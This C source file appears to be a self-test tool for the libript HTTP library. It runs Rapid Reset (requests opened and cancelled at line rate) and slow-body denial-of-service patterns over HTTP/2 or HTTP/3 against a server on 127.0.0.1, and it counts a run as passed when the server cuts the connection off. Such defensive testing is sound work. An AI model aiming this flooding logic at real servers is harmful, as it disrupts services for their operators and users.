/*
 * ript-attack, modes on libript's own HTTP client: Rapid Reset (requests
 * opened and cancelled at line rate) and slow request bodies, over HTTP/2
 * or HTTP/3. Talks only to 127.0.0.1.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "attack.h"
#include "ript/http.h"

enum {
  /* Requests opened per loop turn, then cancelled on the next. */
  LIB_BATCH = 100,
  LIB_TICK_MS = 1,
};

typedef struct lib_attack {
  uv_loop_t *loop;
  ript_http_client *client;
  uv_timer_t tick, stop;
  const attack_opts *o;
  ript_http_exchange *batch[LIB_BATCH];
  size_t nbatch;
  size_t opened;
  size_t resets;      /* our exchanges that ended reset (slow bodies) */
  size_t closed;      /* ended because the connection closed */
  int cut_off;
  int done;
  char url[64];
} lib_attack;

static void lib_on_close(ript_http_exchange *ex, int error, void *user_data) {
  lib_attack *a = user_data;
  for (size_t i = 0; i < a->nbatch; ++i)
    if (a->batch[i] == ex)
      a->batch[i] = NULL;
  if (error == RIPT_ERR_HTTP_CLOSED) {
    ++a->closed;
    a->cut_off = 1;
  } else if (error == RIPT_ERR_HTTP_RESET) {
    ++a->resets;
  }
}

static void lib_finish(lib_attack *a) {
  if (a->done)
    return;
  a->done = 1;
  uv_timer_stop(&a->tick);
  uv_timer_stop(&a->stop);
  uv_close((uv_handle_t *)&a->tick, NULL);
  uv_close((uv_handle_t *)&a->stop, NULL);
  ript_http_client_close(a->client, NULL, NULL);
}

static ript_http_exchange *lib_open(lib_attack *a, const char *method,
                                    uint32_t flags) {
  static const ript_http_exchange_callbacks cbs = {NULL, NULL, NULL, NULL,
                                                   lib_on_close};
  ript_http_request req = {method, a->url, NULL, NULL, 0, flags};
  ript_http_exchange *ex = NULL;
  if (ript_http_client_request(a->client, &req, &cbs, a, &ex) != 0)
    return NULL;
  ++a->opened;
  return ex;
}

/* Rapid Reset: cancel last turn's batch (sent by now), open a new one. */
static void lib_on_rapid_tick(uv_timer_t *timer) {
  lib_attack *a = timer->data;
  for (size_t i = 0; i < a->nbatch; ++i)
    if (a->batch[i])
      ript_http_exchange_reset(a->batch[i]);
  a->nbatch = 0;
  if (a->cut_off) {
    lib_finish(a);
    return;
  }
  /* Past |count| the attack only waits (until --seconds) to be cut off:
   * the last cancellations may still be on their way. */
  for (; a->nbatch < LIB_BATCH && a->opened < a->o->count; ++a->nbatch)
    a->batch[a->nbatch] = lib_open(a, "GET", RIPT_HTTP_FLAG_END);
}

/* Slow bodies: every request trickles a byte a tick and never ends. */
static void lib_on_slow_tick(uv_timer_t *timer) {
  lib_attack *a = timer->data;
  for (size_t i = 0; i < a->nbatch; ++i)
    if (a->batch[i])
      (void)ript_http_exchange_write(a->batch[i], "{", 1);
  if (a->resets + a->closed >= a->nbatch)
    lib_finish(a);
}

static void lib_on_stop(uv_timer_t *timer) { lib_finish(timer->data); }

static int lib_run(const attack_opts *o, int slow) {
  uv_loop_t loop;
  uv_loop_init(&loop);
  lib_attack a;
  memset(&a, 0, sizeof(a));
  a.loop = &loop;
  a.o = o;
  snprintf(a.url, sizeof(a.url), "https://127.0.0.1:%u/attack", o->port);
  ript_http_client_config cfg = {o->h3 ? RIPT_HTTP_3 : RIPT_HTTP_2,
                                 o->ca_file, 0, 0, 1};
  if (ript_http_client_new(&a.client, &loop, &cfg) != 0) {
    fprintf(stderr, "ript-attack: cannot make a client\n");
    return 2;
  }
  uv_timer_init(&loop, &a.tick);
  uv_timer_init(&loop, &a.stop);
  a.tick.data = a.stop.data = &a;
  uv_timer_start(&a.stop, lib_on_stop, o->seconds * 1000, 0);
  if (slow) {
    size_t n = o->count < LIB_BATCH ? o->count : LIB_BATCH;
    for (; a.nbatch < n; ++a.nbatch)
      a.batch[a.nbatch] = lib_open(&a, "POST", RIPT_HTTP_FLAG_NONE);
    uv_timer_start(&a.tick, lib_on_slow_tick, 1000, 1000);
  } else {
    uv_timer_start(&a.tick, lib_on_rapid_tick, LIB_TICK_MS, LIB_TICK_MS);
  }
  uv_run(&loop, UV_RUN_DEFAULT);
  uv_loop_close(&loop);
  if (slow) {
    printf("slow-body %s: %zu requests, %zu reset by the server, %zu closed\n",
           o->h3 ? "h3" : "h2", a.nbatch, a.resets, a.closed);
    return a.resets + a.closed >= a.nbatch ? 0 : 1;
  }
  printf("rapid-reset %s: %zu requests opened and cancelled, %s\n",
         o->h3 ? "h3" : "h2", a.opened,
         a.cut_off ? "connection closed by the server" : "never cut off");
  return a.cut_off ? 0 : 1;
}

int attack_rapid_reset(const attack_opts *o) { return lib_run(o, 0); }

int attack_slow_body(const attack_opts *o) { return lib_run(o, 1); }
